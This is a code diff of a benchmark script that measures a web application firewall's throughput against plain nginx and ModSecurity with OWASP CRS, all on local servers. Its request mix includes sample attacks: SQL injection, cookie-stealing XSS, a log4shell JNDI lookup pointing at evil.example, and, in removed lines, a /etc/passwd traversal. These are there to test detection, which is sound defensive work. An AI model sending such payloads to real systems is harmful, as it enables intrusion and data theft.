@@ -1,11 +1,22 @@
 #!/usr/bin/env bun
 /**
- * Inline checks over HTTP: `wrk` drives POST /check on a running `moat serve` at fixed concurrency.
+ * Inline checks, direct and through nginx, in one run on one machine: `wrk` at fixed concurrency
+ * against
+ *   1. `moat serve` POST /check (detect mode; the requests as JSON check bodies),
+ *   2. nginx alone: assets/deploy/nginx/auth-request.conf without its `auth_request` line, proxying to
+ *      a tiny upstream (a second nginx server answering 200),
+ *   3. nginx + auth_request → Moat: the same file as documented, Moat in block mode,
+ *   4. nginx + ModSecurity + OWASP CRS at paranoia level 1 (Debian packages, bench/lib/modsecurity.ts)
+ *      proxying to the same kind of upstream.
+ * Every row sends the same mix, rotated by a wrk Lua script: three benign requests and three
+ * attacks (SQL injection and XSS in the query, log4shell in User-Agent). Attacks answered 403 count as
+ * non-2xx in wrk's figures; the `attacks blocked` column comes from probing each attack once first.
  *
  *   bun run bench:check [--seconds S] [--connections C] [--threads T]
  *
- * The request bodies rotate through benign and attack requests (the project's own examples). Prints
- * requests/s and latency p50/p99 as wrk measured them, in a Markdown table.
+ * Prints machine, versions and a Markdown table (requests/s, p50, p99 as wrk measured them).
+ * Exit codes: 69 wrk or ModSecurity/CRS missing and not installable, 70 a server did not come up or
+ * answered wrongly.
  */
 import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
@@ -13,26 +24,54 @@ import { join, resolve } from "node:path";
 import { parseArgs } from "node:util";
 import { EXIT } from "../cli/exit-codes.ts";
 import { describeMachine } from "./lib/machine.ts";
+import { crsInfo, debVersion, ensureModSecurity, nginxVersion, startCrsNginx } from "./lib/modsecurity.ts";
 import { BenchError, runBench } from "./lib/run.ts";
 import { markdownTable, thousands } from "./lib/table.ts";
-import { freePort } from "../test/helpers/nginx.ts";
+import { NGINX_BIN, freePort, startAuthRequestNginx } from "../test/helpers/nginx.ts";
 
 const ROOT = resolve(import.meta.dir, "..");
 const log = (msg: string) => process.stderr.write(`bench:check: ${msg}\n`);
 
-const BODIES = [
-  { method: "GET", path: "/products", query_params: { id: "42", color: "red" }, headers: { "user-agent": "Mozilla/5.0" } },
-  { method: "GET", path: "/search", query_params: { q: "red running shoes", page: "2" } },
-  { method: "POST", path: "/login", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "user=alice&pass=secret" },
-  { method: "GET", path: "/items", query_params: { id: "1' UNION SELECT password FROM users--" } },
-  { method: "GET", path: "/search", query_params: { q: "<script>alert(1)</script>" } },
-  { method: "GET", path: "/static/../../etc/passwd" },
+interface MixRequest {
+  target: string;
+  userAgent: string;
+  attack: boolean;
+}
+
+const MIX: MixRequest[] = [
+  { target: "/products?id=42&color=red", userAgent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", attack: false },
+  { target: "/search?q=red+running+shoes&page=2", userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/126.0 Safari/537.36", attack: false },
+  { target: "/account/orders?page=3&sort=date", userAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Safari/605.1.15", attack: false },
+  { target: "/items?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", userAgent: "Mozilla/5.0", attack: true },
+  { target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", userAgent: "Mozilla/5.0", attack: true },
+  { target: "/products", userAgent: "${jndi:ldap://evil.example/a}", attack: true },
 ];
 
-/** A wrk script that rotates the bodies. */
-function wrkScript(): string {
-  const bodies = BODIES.map((b) => JSON.stringify(JSON.stringify(b))).join(",\n  ");
-  return `local bodies = {\n  ${bodies}\n}\nlocal i = 0\nrequest = function()\n  i = (i % #bodies) + 1\n  return wrk.format("POST", "/check", { ["Content-Type"] = "application/json" }, bodies[i])\nend\n`;
+const HOST = "shop.test";
+
+/** The mix as POST /check bodies (what a script calling Moat directly sends). */
+function checkBody(r: MixRequest): string {
+  return JSON.stringify({ method: "GET", path: r.target, headers: { host: HOST, "user-agent": r.userAgent } });
+}
+
+const lua = (s: string) => JSON.stringify(s); // a JSON string is a valid Lua string literal for this text
+
+/** A wrk script that sends `requests` in turn; built in init so that wrk's own headers are set. */
+function rotationScript(requests: { method: string; path: string; headers: Record<string, string>; body?: string }[]): string {
+  const rows = requests.map((r) => {
+    const headers = Object.entries(r.headers).map(([k, v]) => `[${lua(k)}] = ${lua(v)}`).join(", ");
+    return `    wrk.format(${lua(r.method)}, ${lua(r.path)}, { ${headers} }${r.body ? `, ${lua(r.body)}` : ""})`;
+  });
+  return `local requests = {}\nlocal i = 0\ninit = function(args)\n  requests = {\n${rows.join(",\n")}\n  }\nend\nrequest = function()\n  i = (i % #requests) + 1\n  return requests[i]\nend\n`;
+}
+
+interface WrkResult {
+  rps: number;
+  p50: number;
+  p99: number;
+  requests: number;
+  non2xx: number;
+  socketErrors: number;
 }
 
 /** wrk --latency prints "50%  1.23ms" lines; returns milliseconds. */
@@ -43,51 +82,150 @@ function latency(output: string, percentile: string): number {
   return m[2] === "us" ? v / 1000 : m[2] === "s" ? v * 1000 : v;
 }
 
+function parseWrk(out: string): WrkResult {
+  const socket = /Socket errors: connect (\d+), read (\d+), write (\d+), timeout (\d+)/.exec(out);
+  return {
+    rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN),
+    p50: latency(out, "50"),
+    p99: latency(out, "99"),
+    requests: Number(/(\d+) requests in/.exec(out)?.[1] ?? NaN),
+    non2xx: Number(/Non-2xx or 3xx responses: (\d+)/.exec(out)?.[1] ?? 0),
+    socketErrors: socket ? socket.slice(1).map(Number).reduce((a, b) => a + b, 0) : 0,
+  };
+}
+
+interface WrkOptions {
+  wrk: string;
+  dir: string;
+  seconds: number;
+  connections: number;
+  threads: number;
+}
+
+function runWrk(o: WrkOptions, label: string, url: string, script: string): WrkResult {
+  const file = join(o.dir, `${label.replace(/\W+/g, "-")}.lua`);
+  writeFileSync(file, script);
+  log(`${label}: wrk -t${o.threads} -c${o.connections} -d${o.seconds}s ${url}`);
+  const run = Bun.spawnSync([o.wrk, `-t${o.threads}`, `-c${o.connections}`, `-d${o.seconds}s`, "--latency", "-s", file, url], { stdout: "pipe", stderr: "pipe" });
+  const out = run.stdout.toString();
+  if (!run.success || !/Requests\/sec/.test(out)) throw new BenchError(`wrk failed on ${label}:\n${out}${run.stderr.toString()}`, EXIT.software);
+  const result = parseWrk(out);
+  log(`${label}: ${thousands(result.rps)} requests/s, p99 ${result.p99.toFixed(2)} ms`);
+  return result;
+}
+
+/** Sends each request of the mix once: a benign request must get 200; returns how many attacks got 403. */
+async function probe(label: string, port: number): Promise<number> {
+  let blocked = 0;
+  for (const r of MIX) {
+    const res = await fetch(`http://127.0.0.1:${port}${r.target}`, { headers: { host: HOST, "user-agent": r.userAgent } });
+    await res.arrayBuffer();
+    if (!r.attack && res.status !== 200) throw new BenchError(`${label}: the benign ${r.target} answered ${res.status}, not 200`, EXIT.software);
+    if (r.attack && res.status === 403) blocked++;
+    else if (r.attack && res.status !== 200) throw new BenchError(`${label}: the attack ${r.target} answered ${res.status}, not 200 or 403`, EXIT.software);
+  }
+  return blocked;
+}
+
+async function waitForMoat(base: string): Promise<void> {
+  const until = Date.now() + 30_000;
+  while (!(await fetch(`${base}/health`).then((r) => r.ok, () => false))) {
+    if (Date.now() > until) throw new BenchError("moat serve did not start", EXIT.software);
+    await Bun.sleep(100);
+  }
+}
+
+async function moatJson<T>(base: string, path: string, init?: RequestInit): Promise<T> {
+  const res = await fetch(`${base}${path}`, init);
+  if (!res.ok) throw new BenchError(`${path} answered ${res.status}: ${await res.text()}`, EXIT.software);
+  return ((await res.json()) as { data: T }).data;
+}
+
+const checksServed = (base: string) => moatJson<{ checks_served: number }>(base, "/api/waf/stats").then((s) => s.checks_served);
+
+interface Row {
+  label: string;
+  result: WrkResult;
+  attacksBlocked: string;
+}
+
 async function main(argv: string[]): Promise<number> {
   const { values } = parseArgs({ args: argv, options: { seconds: { type: "string" }, connections: { type: "string" }, threads: { type: "string" } } });
   const wrk = Bun.which("wrk");
-  if (!wrk) throw new BenchError("wrk is not installed (Debian package wrk; .ci/setup installs it)", EXIT.software);
-  const seconds = Number(values.seconds ?? 10);
-  const connections = Number(values.connections ?? 16);
-  const threads = Number(values.threads ?? 1);
+  if (!wrk) throw new BenchError("wrk is not installed (Debian package wrk; .ci/setup installs it)", EXIT.unavailable);
+  if (!NGINX_BIN) throw new BenchError("nginx is not installed (Debian package nginx; .ci/setup installs it)", EXIT.unavailable);
+  ensureModSecurity(log);
+  const crs = crsInfo();
   const dir = mkdtempSync(join(tmpdir(), "moat-bench-check-"));
+  const o: WrkOptions = { wrk, dir, seconds: Number(values.seconds ?? 10), connections: Number(values.connections ?? 16), threads: Number(values.threads ?? 1) };
+  const attacks = MIX.filter((r) => r.attack).length;
   const port = await freePort();
+  const base = `http://127.0.0.1:${port}`;
   const serve = Bun.spawn([process.execPath, join(ROOT, "cli/index.ts"), "serve", "--port", String(port), "-c", "/dev/null", "--log-level", "warn"], {
-    env: { ...process.env, MOAT_STORAGE_DATA_DIR: dir, MOAT_SECURITY_NGINX_CONF: "" },
+    env: { ...process.env, MOAT_STORAGE_DATA_DIR: dir, MOAT_SECURITY_NGINX_CONF: "", MOAT_DETECT_MODE: "detect" },
     stdout: "ignore",
     stderr: "inherit",
   });
+  const stops: (() => Promise<void>)[] = [];
+  const rows: Row[] = [];
+  let judgedThroughNginx = { judged: 0, sent: 0 };
   try {
-    const until = Date.now() + 20_000;
-    for (;;) {
-      const up = await fetch(`http://127.0.0.1:${port}/health`).then((r) => r.ok, () => false);
-      if (up) break;
-      if (Date.now() > until) throw new BenchError("moat serve did not start", EXIT.software);
-      await Bun.sleep(100);
-    }
-    const probe = await fetch(`http://127.0.0.1:${port}/check`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(BODIES[3]) });
-    if (!probe.ok) throw new BenchError(`POST /check answered ${probe.status}: ${await probe.text()}`, EXIT.software);
-    const script = join(dir, "check.lua");
-    writeFileSync(script, wrkScript());
-    log(`wrk -t${threads} -c${connections} -d${seconds}s POST /check`);
-    const run = Bun.spawnSync([wrk, `-t${threads}`, `-c${connections}`, `-d${seconds}s`, "--latency", "-s", script, `http://127.0.0.1:${port}/check`], { stdout: "pipe", stderr: "pipe" });
-    const out = run.stdout.toString();
-    const rps = Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN);
-    const errors = /Non-2xx or 3xx responses: (\d+)/.exec(out)?.[1] ?? "0";
-    console.log(describeMachine().join("\n"));
-    console.log(`- wrk ${threads} thread(s), ${connections} connections, ${seconds} s; bodies rotate through 3 benign and 3 attack requests; generic model only\n`);
-    console.log(
-      markdownTable(
-        ["path", "requests/s", "p50", "p99", "non-2xx", "goal"],
-        [["moat serve POST /check", thousands(rps), `${latency(out, "50").toFixed(2)} ms`, `${latency(out, "99").toFixed(2)} ms`, errors, "≥ 10,000/s, p99 ≤ 5 ms"]],
-      ),
+    await waitForMoat(base);
+
+    // 1. Direct, detect mode: every answer is 200 and carries the verdict.
+    const flagged = await Promise.all(
+      MIX.map(async (r) => ((await (await fetch(`${base}/check`, { method: "POST", headers: { "content-type": "application/json" }, body: checkBody(r) })).json()) as { is_anomaly: boolean }).is_anomaly),
     );
-    return EXIT.ok;
+    if (flagged.some((f, i) => f !== MIX[i]!.attack)) throw new BenchError(`POST /check did not flag exactly the attacks of the mix: ${JSON.stringify(flagged)}`, EXIT.software);
+    const checkScript = rotationScript(MIX.map((r) => ({ method: "POST", path: "/check", headers: { "Content-Type": "application/json" }, body: checkBody(r) })));
+    rows.push({ label: "moat serve `POST /check` (detect mode, JSON bodies)", result: runWrk(o, "check", `${base}/check`, checkScript), attacksBlocked: "— (answers the verdict)" });
+
+    const getScript = rotationScript(MIX.map((r) => ({ method: "GET", path: r.target, headers: { Host: HOST, "User-Agent": r.userAgent } })));
+
+    // 2. nginx alone: the documented server without its auth_request line.
+    const alone = await startAuthRequestNginx({ moatPort: port, judge: false });
+    stops.push(() => alone.stop());
+    const aloneBlocked = await probe("nginx alone", alone.port);
+    rows.push({ label: "nginx alone → upstream", result: runWrk(o, "nginx alone", `http://127.0.0.1:${alone.port}/`, getScript), attacksBlocked: `${aloneBlocked} of ${attacks}` });
+    await alone.stop();
+    stops.pop();
+
+    // 3. nginx + auth_request → Moat in block mode.
+    await moatJson(base, "/api/waf/config", { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify({ mode: "block" }) });
+    const judged = await startAuthRequestNginx({ moatPort: port });
+    stops.push(() => judged.stop());
+    const authBlocked = await probe("nginx + auth_request", judged.port);
+    const servedBefore = await checksServed(base);
+    const authResult = runWrk(o, "nginx + auth_request", `http://127.0.0.1:${judged.port}/`, getScript);
+    judgedThroughNginx = { judged: (await checksServed(base)) - servedBefore, sent: authResult.requests };
+    rows.push({ label: "nginx + `auth_request` → moat (block mode) → upstream", result: authResult, attacksBlocked: `${authBlocked} of ${attacks}` });
+    await judged.stop();
+    stops.pop();
+
+    // 4. nginx + ModSecurity + CRS PL1.
+    const modsec = await startCrsNginx(1, crs);
+    stops.push(() => modsec.stop());
+    const crsBlocked = await probe("nginx + CRS PL1", modsec.port);
+    rows.push({ label: "nginx + ModSecurity + CRS PL1 → upstream", result: runWrk(o, "nginx + CRS PL1", `http://127.0.0.1:${modsec.port}/`, getScript), attacksBlocked: `${crsBlocked} of ${attacks}` });
   } finally {
+    for (const stop of stops) await stop();
     serve.kill("SIGTERM");
     await serve.exited;
     rmSync(dir, { recursive: true, force: true });
   }
+
+  console.log(describeMachine().join("\n"));
+  console.log(`- nginx ${nginxVersion()} (1 worker), libmodsecurity3 ${debVersion("libmodsecurity3")}, OWASP CRS ${crs.version}`);
+  console.log(`- wrk ${o.threads} thread(s), ${o.connections} connections, ${o.seconds} s per row; the requests rotate through ${MIX.length - attacks} benign requests and ${attacks} attacks; Moat with its generic model only`);
+  // Fewer judged than completed would mean the snippet's fail-open let requests through unjudged.
+  console.log(`- nginx + auth_request row: wrk completed ${thousands(judgedThroughNginx.sent)} requests; Moat judged ${thousands(judgedThroughNginx.judged)} subrequests meanwhile\n`);
+  console.log(
+    markdownTable(
+      ["path", "requests/s", "p50", "p99", "non-2xx", "socket errors", "attacks blocked"],
+      rows.map((r) => [r.label, thousands(r.result.rps), `${r.result.p50.toFixed(2)} ms`, `${r.result.p99.toFixed(2)} ms`, thousands(r.result.non2xx), thousands(r.result.socketErrors), r.attacksBlocked]),
+    ),
+  );
+  return EXIT.ok;
 }
 
 if (import.meta.main) await runBench(main, log);
